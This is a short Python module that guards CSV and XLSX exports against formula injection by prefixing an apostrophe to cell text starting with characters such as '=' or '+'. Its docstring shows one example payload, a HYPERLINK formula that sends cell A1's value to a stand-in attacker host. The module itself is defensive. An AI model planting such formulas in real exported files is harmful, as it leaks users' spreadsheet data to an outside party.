"""User text in spreadsheets is data, never a formula.

A title such as `=HYPERLINK("http://evil.example/?x="&A1,"click me")`, or a
phone number such as `+855 23 123 456`, is read by Excel and LibreOffice as a
formula when a cell starts with one of these characters (CSV injection,
OWASP). Every CSV and XLSX the project writes passes its text through here.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def inert_text(value):
    """For CSV: text that would start a formula gets a leading apostrophe, which spreadsheets hide."""
    return "'" + value if starts_like_formula(value) else value
